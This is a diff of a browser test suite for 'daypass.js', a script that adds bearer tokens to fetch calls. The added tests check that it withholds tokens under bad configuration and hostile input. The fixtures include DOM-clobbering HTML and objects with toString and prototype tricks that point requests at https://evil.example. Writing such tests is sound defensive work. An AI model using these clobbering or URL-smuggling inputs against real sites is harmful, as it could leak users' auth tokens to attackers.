@@ -1,5 +1,5 @@
 import type { Browser, BrowserContext, Page, Route } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { bundleScript } from '../../scripts/bundle.ts';
 import { launchBrowser } from '../e2e/support/browser.ts';
 import { describeWith } from '../support/optional.ts';
@@ -123,17 +123,141 @@ describeWith('chromium')('daypass.js', () => {
     expect(await (await open('data-api="/api/"')).evaluate(`'GoTrue' in window`)).toBe(false);
   });
 
-  test('without data-api it says what is missing, and the session can be used by hand', async () => {
-    const page = await open('');
-    expect(logged.join()).toContain('data-api="/api/"');
-    await page.evaluate(() => fetch('/api/x'));
-    await page.evaluate(`daypass.fetch('/api/x')`);
-    expect(calls).toEqual(['GET /api/x none', 'GET /api/x Bearer access-1']);
+  describe('a tag that is at fault', () => {
+    test.each([
+      ['no data-api', '', /data-api="\/api\/"/],
+      ['an empty data-api', 'data-api=" "', /data-api="\/api\/"/],
+      ['a prefix that is no address', 'data-api="/api/ http://"', /http:\/\//],
+      ['an option that is malformed', 'data-api="/api/" data-email-domain="a@b"', /emailDomain/],
+      ['a misspelt option', 'data-api="/api/" data-scopes="a"', /scopes.*scope/],
+      ['a misspelt data-api', 'data-apis="/api/"', /apis.*api/],
+      ['a proof that is no address', 'data-api="/api/" data-proof="http://"', /http:\/\//],
+    ])('%s: says so, and each call that wants a token fails with the same error', async (_, tag, message) => {
+      const page = await open(tag);
+      expect(logged.join()).toMatch(message);
+      refuseNext = true;
+      const calls = [`fetch('/api/x')`, `daypass.fetch('/api/x')`, 'daypass.token()', 'daypass.revoke()'];
+      for (const call of calls) {
+        const error = await page.evaluate(`${call}.then(() => 'no error', (error) => String(error))`);
+        expect(error).toMatch(message);
+        expect(error).toMatch(/^TypeError: Daypass: /);
+      }
+      expect(given).toBe(0);
+    });
+
+    test('under a prefix that could be read nothing is sent', async () => {
+      const page = await open('data-api="/api/ http://"');
+      await page.evaluate(`fetch('/api/x').catch(() => 0).then(() => fetch('/other'))`);
+      expect(calls).toEqual(['GET /other none']);
+    });
+
+    test('where none could be read, calls go out, and fail that are refused for want of a token', async () => {
+      const page = await open('');
+      const statuses = `Promise.all(['/api/x', '/other'].map((url) => fetch(url).then((r) => r.status, () => 'error')))`;
+      expect(await page.evaluate(statuses)).toEqual([200, 200]);
+      refuseNext = true;
+      expect(await page.evaluate(`fetch('/api/x').then((r) => r.status, () => 'error')`)).toBe('error');
+    });
+
+    test('attributes of other tools are none of its business', async () => {
+      const page = await open(
+        'data-api="/api/" data-cfasync="false" data-turbo-track="reload" data-v-1f2="" data-type="x"',
+      );
+      await page.evaluate(() => fetch('/api/x'));
+      expect(logged).toEqual([]);
+    });
   });
 
-  test('a malformed attribute is an error that names it', async () => {
-    await open('data-api="/api/" data-email-domain="a@b"');
-    expect(logged.join()).toContain('emailDomain');
+  test.each([
+    [
+      'an image',
+      '<img name="currentScript" data-api="https://evil.example/" data-proof="https://evil.example/p.js">',
+    ],
+    ['a form', '<form name="currentScript" data-api="https://evil.example/"><input name="dataset"></form>'],
+    [
+      'two of a name',
+      '<img name="currentScript"><img name="currentScript" data-api="https://evil.example/">',
+    ],
+    ['a frame', '<iframe name="currentScript" data-api="https://evil.example/"></iframe>'],
+  ])('%s of the name currentScript is not believed', async (_, html) => {
+    const page = await open('data-api="/api/"', html);
+    await page.evaluate(async () => {
+      await fetch('https://evil.example/x');
+      await fetch('/api/x');
+    });
+    expect(calls).toEqual(['GET https://evil.example/x none', 'GET /api/x Bearer access-1']);
+    expect(logged).toEqual([]);
+  });
+
+  test.each([
+    [
+      'takes strange objects for what they say',
+      `{ url: '/api/x', toString: () => 'https://evil.example/x' }`,
+    ],
+    [
+      'takes prototypes for what they are',
+      `Object.create(new Request('/api/x'), { toString: { value: () => 'https://evil.example/x' } })`,
+    ],
+  ])('%s', async (_, input) => {
+    const page = await open('data-api="/api/"');
+    await page.evaluate(`fetch(${input})`);
+    expect(calls).toEqual(['GET https://evil.example/x none']);
+  });
+
+  test('a polluted prototype names no address', async () => {
+    const page = await open('data-api="/api/"', `<script>Object.prototype.url = '/api/x';</script>`);
+    await page.evaluate(`fetch('https://evil.example/x').then(() => fetch(new URL('/api/y', location)))`);
+    expect(calls).toEqual(['GET https://evil.example/x none', 'GET /api/y Bearer access-1']);
+  });
+
+  test('what changes each time it is read is read once', async () => {
+    const page = await open('data-api="/api/"');
+    await page.evaluate(
+      `{ let n = 0; fetch({ toString: () => (n++ ? 'https://evil.example/x' : '/api/x') }); }`,
+    );
+    await expect.poll(() => calls).toEqual(['GET /api/x Bearer access-1']);
+  });
+
+  test('a Request of another realm is one', async () => {
+    const page = await open('data-api="/api/"', '<iframe src="about:blank"></iframe>');
+    await page.evaluate(
+      `{ const { Request } = document.querySelector('iframe').contentWindow; fetch(new Request('${site}/api/x', { method: 'PUT', body: 'a' })); }`,
+    );
+    await expect.poll(() => calls).toEqual(['PUT /api/x Bearer access-1 a']);
+  });
+
+  test('mode no-cors, which takes no Authorization, is left alone, with a warning', async () => {
+    const page = await open('data-api="/api/"');
+    await page.evaluate(
+      `fetch('/api/x', { mode: 'no-cors' }).then(() => fetch(new Request('/api/y', { mode: 'no-cors' })))`,
+    );
+    expect(calls).toEqual(['GET /api/x none', 'GET /api/y none']);
+    expect(logged.join()).toMatch(/no-cors.*\/api\/x/);
+    const error = await page.evaluate(
+      `daypass.fetch('/api/x', { mode: 'no-cors' }).catch((error) => String(error))`,
+    );
+    expect(error).toMatch(/^TypeError: Daypass: .*no-cors/);
+    expect(given).toBe(0);
+  });
+
+  test.each([
+    [
+      'rebuilds the fields from init',
+      `(input, init) => found(input.url ?? input, { ...init, headers: { ...init?.headers } })`,
+    ],
+    ['sends the address alone', `(input) => found(String(input.url ?? input))`],
+    ['takes its time', `async (input, init) => { await 0; return found(input, init); }`],
+    ['makes a Request', `(input, init) => found(new Request(input, init))`],
+  ])('a wrapper of fetch that %s sees each call once, and the call gets its token', async (_, wrapper) => {
+    const page = await open('data-api="/api/"');
+    await page.evaluate(`{
+      const found = fetch, wrapper = ${wrapper};
+      globalThis.seen = [];
+      globalThis.fetch = (input, init) => { seen.push(new URL(input.url ?? input, location).pathname); return wrapper(input, init); };
+    }`);
+    await page.evaluate(() => fetch('/api/x', { headers: { 'x-a': '1' } }));
+    expect(calls).toEqual(['GET /api/x Bearer access-1']);
+    expect(await page.evaluate(`seen.filter((path) => path.startsWith('/api/'))`)).toEqual(['/api/x']);
   });
 
   test('where the browser forbids storage, memory does', async () => {
